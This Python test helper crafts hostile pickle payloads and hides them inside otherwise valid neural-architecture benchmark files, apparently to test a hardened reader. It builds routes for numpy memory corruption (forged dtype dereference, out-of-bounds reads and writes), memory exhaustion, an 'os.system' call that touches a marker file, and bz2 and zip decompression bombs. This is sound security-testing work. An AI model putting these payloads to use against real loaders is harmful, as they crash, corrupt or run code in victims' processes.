"""Hostile pickle-based benchmark files, built byte by byte (test helper, not a test module).

Each *route* is a short opcode sequence that pushes exactly one object and uses only globals on
the reader's allow-list (or none). :func:`build` hides it inside an otherwise valid benchmark file
of one of the pickle containers, in a field the reader ignores, so a reader that loads it without
complaint has let it run:

* ``nats-arch``: a NATS-tss ``-simple`` folder whose arch-0 file carries the route in a record's
  ``net_state_dict`` (``None`` in the released files);
* ``nats-meta``: the same folder with the route in ``meta.pickle.pbz2``'s ``arch2infos`` (``None``);
* ``pth-zip`` / ``pth-legacy``: an NB201 ``.pth`` (both torch containers) with the route as
  ``evaluated_indexes``;
* ``naslib-nb201`` / ``naslib-nb101``: NASLib's pickles with the route as an extra record field.

The containers are written with protocol 2 (no frames), so the route can be spliced in place of a
marker string. Routes (``ROUTES``), each of which crashed or misbehaved in the reader before the
hardening (measured with ``tests/groundtruth/test_crafted_pickles.py``'s subprocess harness):

* ``forged-dtype-scalar``: ``numpy.dtype('O8')`` given flags 0 by BUILD, then
  ``scalar(dtype, b'AAAAAAAA')``: numpy dereferences 0x4141414141414141 (SIGSEGV);
* ``object-array-short-list``: ``_reconstruct`` + BUILD of a 100,000-element object array from a
  2-element list (out-of-bounds read);
* ``structured-object-offset``: a structured dtype whose object field sits at offset 100,000 of
  an 8-byte item, then an array of it (out-of-bounds write);
* ``huge-object-array``: a 2e8-element object array from a few bytes (1.6 GB);
* ``codecs-build``: BUILD on ``_codecs.encode`` (sets attributes of a process-global function);
* ``newobj-ndarray``: ``NEWOBJ`` of ``numpy.ndarray(3)`` (uninitialised memory);
* ``deep-tuple-key``: a dict key of 1,000,000 nested tuples (hashing it overflows the C stack);
* ``memo-index``: ``LONG_BINPUT`` at index 80,000,000 (the unpickler zeroes 1.28 GB);
* ``empty-set-spam``: 8,000,000 ``EMPTY_SET`` opcodes in a list (1.9 GB from 8 MB);
* ``os-system``: the classic ``os.system`` global (would touch a marker file).
"""

from __future__ import annotations

import bz2
import functools
import pickle
import shutil
import struct
import zipfile
import zlib
from pathlib import Path

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
NATS = FIXTURES / "nats" / "NATS-tss-v1_0-3ffb9-simple"
NB201 = FIXTURES / "groundtruth" / "nb201"
NB101_DUMMY = FIXTURES / "nb101" / "naslib_nb101_dummy.pkl"
MARKER = "nbt_pwned_marker"
_SLOT = "__NBT_ATTACK_SLOT__"
MC = "numpy.core.multiarray"


# =========================================================================== opcodes
def g(module: str, name: str) -> bytes:
    """GLOBAL module.name"""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def s(text: str) -> bytes:
    """BINUNICODE"""
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def b_(data: bytes) -> bytes:
    """BINBYTES"""
    return b"B" + struct.pack("<I", len(data)) + data


def i(value: int) -> bytes:
    """BININT"""
    return b"J" + struct.pack("<i", value)


def t(*items: bytes) -> bytes:
    """a tuple of the given pushes (MARK ... TUPLE)"""
    return b"(" + b"".join(items) + b"t"


NONE, TRUE, FALSE, REDUCE, BUILD, POP = b"N", b"\x88", b"\x89", b"R", b"b", b"0"


def dtype(code: str, state: bytes) -> bytes:
    """numpy.dtype(code, False, True) then BUILD(state)"""
    return g("numpy", "dtype") + t(s(code), FALSE, TRUE) + REDUCE + state + BUILD


def obj_dtype(flags: int = 63) -> bytes:
    return dtype("O8", t(i(3), s("|"), NONE, NONE, NONE, i(-1), i(-1), i(flags)))


def array(shape: tuple[int, ...], dt: bytes, data: bytes) -> bytes:
    """_reconstruct(ndarray, (0,), b'b') then BUILD((1, shape, dtype, False, data))"""
    head = g(MC, "_reconstruct") + t(g("numpy", "ndarray"), t(i(0)), b_(b"b")) + REDUCE
    return head + t(i(1), t(*(i(d) for d in shape)), dt, FALSE, data) + BUILD


ROUTES: dict[str, bytes] = {
    "forged-dtype-scalar": g(MC, "scalar") + t(obj_dtype(flags=0), b_(b"A" * 8)) + REDUCE,
    "object-array-short-list": array((100_000,), obj_dtype(), b"](" + i(1) + i(2) + b"e"),
    "structured-object-offset": array(
        (4,),
        dtype(
            "V8",
            t(
                i(3),
                s("|"),
                NONE,
                t(s("a")),
                b"}" + s("a") + t(obj_dtype(), i(100_000)) + b"s",
                i(8),
                i(1),
                i(63),
            ),
        ),
        b"](" + NONE * 4 + b"e",
    ),
    "huge-object-array": array((200_000_000,), obj_dtype(), b"]"),
    "codecs-build": g("_codecs", "encode")
    + t(NONE, b"}" + s("__kwdefaults__") + b"}" + s("errors") + s("ignore") + b"ss")
    + BUILD
    + POP
    + NONE,
    "newobj-ndarray": g("numpy", "ndarray") + t(i(3)) + b"\x81",
    "deep-tuple-key": b"}" + NONE + b"\x85" * 1_000_000 + NONE + b"s",
    "memo-index": NONE + b"r" + struct.pack("<I", 80_000_000),
    "empty-set-spam": b"(" + b"\x8f" * 8_000_000 + b"l",
    "os-system": g("posix", "system") + t(s(f"touch {MARKER}")) + REDUCE,
}
#: The routes whose files are too big for the fast suite's container matrix (each still runs in
#: the fast suite in one container).
HEAVY = ("deep-tuple-key", "empty-set-spam", "huge-object-array")

CONTAINERS = ("nats-arch", "nats-meta", "pth-zip", "pth-legacy", "naslib-nb201", "naslib-nb101")
#: ``nbt convert --format`` of each container.
FORMATS = {
    "nats-arch": "nats-tss-folder",
    "nats-meta": "nats-tss-folder",
    "pth-zip": "nb201-pth",
    "pth-legacy": "nb201-pth",
    "naslib-nb201": "naslib-nb201-pickle",
    "naslib-nb101": "naslib-nb101-pickle",
}


# =========================================================================== containers
def _splice(obj, route: bytes) -> bytes:
    """Protocol-2 pickle of ``obj`` with the marker string replaced by ``route``."""
    data = pickle.dumps(obj, protocol=2)
    marker = s(_SLOT)
    assert data.count(marker) == 1, "the marker must be pickled exactly once"
    return data.replace(marker, route)


def _load_bz2(path: Path):
    with bz2.BZ2File(path) as fh:
        return pickle.load(fh)  # trusted fixture


def _legacy(obj_pickle: bytes) -> bytes:
    head = [
        0x1950A86A20F9469CFC6C,
        1001,
        {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2}},
    ]
    return (
        b"".join(pickle.dumps(o, protocol=2) for o in head)
        + obj_pickle
        + pickle.dumps([], protocol=2)
    )


def _pth_object():
    with zipfile.ZipFile(NB201 / "NAS-Bench-201-fixture-zip.pth") as zf:
        return pickle.loads(zf.read("NAS-Bench-201-fixture-zip/data.pkl"))  # trusted fixture


def build(container: str, route: bytes, where: Path) -> Path:
    """Write a benchmark file (or folder) of ``container`` carrying ``route``; return its path."""
    where.mkdir(parents=True, exist_ok=True)
    if container in ("nats-arch", "nats-meta"):
        folder = where / "NATS-tss-v1_0-3ffb9-simple"
        folder.mkdir()
        shutil.copy(NATS / "000011.pickle.pbz2", folder)
        if container == "nats-arch":
            shutil.copy(NATS / "meta.pickle.pbz2", folder)
            rec = _load_bz2(NATS / "000000.pickle.pbz2")
            rec["200"]["all_results"][("cifar10-valid", 777)]["net_state_dict"] = _SLOT
            target, obj = folder / "000000.pickle.pbz2", rec
        else:
            meta = _load_bz2(NATS / "meta.pickle.pbz2")
            meta["arch2infos"] = _SLOT
            target, obj = folder / "meta.pickle.pbz2", meta
        target.write_bytes(bz2.compress(_splice(obj, route), 9))
        return folder
    if container in ("pth-zip", "pth-legacy"):
        obj = _pth_object()
        obj["evaluated_indexes"] = _SLOT
        data = _splice(obj, route)
        path = where / f"NAS-Bench-201-v1_1-crafted-{container[4:]}.pth"
        if container == "pth-legacy":
            path.write_bytes(_legacy(data))
        else:
            with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
                zf.writestr(f"{path.stem}/data.pkl", data)
                zf.writestr(f"{path.stem}/version", "3\n")
        return path
    if container == "naslib-nb201":
        with open(NB201 / "nb201_cifar10_full_training.pickle", "rb") as fh:
            data = pickle.load(fh)  # trusted fixture
        first = next(iter(data))
        data[first]["cifar10-valid"]["extra"] = _SLOT
        path = where / "nb201_cifar10_full_training.pickle"
        path.write_bytes(_splice(data, route))
        return path
    if container == "naslib-nb101":
        with open(NB101_DUMMY, "rb") as fh:
            data = pickle.load(fh)  # trusted fixture
        first = next(iter(data))
        fixed, computed = data[first]
        data[first] = ({**fixed, "extra": _SLOT}, computed)
        path = where / "nasbench_only108.pkl"
        path.write_bytes(_splice(data, route))
        return path
    raise ValueError(container)


# =========================================================================== decompression bombs
GiB = 1 << 30


@functools.cache
def bz2_bomb(total: int = 3 * GiB, block: int = 4 << 20) -> bytes:
    """Concatenated bz2 streams decompressing to ``total`` bytes of a valid, endless-looking
    pickle (``PROTO 2`` then ``NONE`` opcodes): as ``bz2.decompress``, ``BZ2File`` and NATS-Bench
    read it. About 130 KB for 3 GiB."""
    head = bz2.compress(b"\x80\x02" + b"N" * (block - 2), 9)
    body = bz2.compress(b"N" * block, 9)
    return head + body * (total // block - 1)


def zip_bomb(
    path: Path, total: int = 3 * GiB, declared: int | None = None, block: int = 8 << 20
) -> Path:
    """A torch zip container whose ``data.pkl`` expands to ``total`` bytes of ``NONE`` opcodes
    (a deflate stream of identical fully-flushed blocks, about 3 MB) and declares ``declared``
    bytes (default ``total``) in its local header and the central directory."""
    path.parent.mkdir(parents=True, exist_ok=True)
    declared = total if declared is None else declared
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = co.compress(b"\x80\x02" + b"N" * (block - 2)) + co.flush(zlib.Z_FULL_FLUSH)
    co2 = zlib.compressobj(9, zlib.DEFLATED, -15)
    middle = co2.compress(b"N" * block) + co2.flush(zlib.Z_FULL_FLUSH)
    last = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
    deflated = first + middle * (total // block - 1) + last
    name = f"{path.stem}/data.pkl".encode()
    crc = 0  # never reached: the reader refuses the declared size first
    local = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 45, 0, 8, 0, 0, crc, 0xFFFFFFFF, 0xFFFFFFFF, len(name), 20
    )
    zip64_local = struct.pack("<HHQQ", 1, 16, declared, len(deflated))
    central = struct.pack(
        "<IHHHHHHIIIHHHHHII",
        0x02014B50,
        45,
        45,
        0,
        8,
        0,
        0,
        crc,
        0xFFFFFFFF,
        0xFFFFFFFF,
        len(name),
        20,
        0,
        0,
        0,
        0,
        0,
    )
    zip64_central = struct.pack("<HHQQ", 1, 16, declared, len(deflated))
    body = local + name + zip64_local + deflated
    cd = central + name + zip64_central
    eocd64 = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, 1, 1, len(cd), len(body))
    locator = struct.pack("<IIQI", 0x07064B50, 0, len(body) + len(cd), 1)
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(cd), len(body), 0)
    path.write_bytes(body + cd + eocd64 + locator + eocd)
    return path
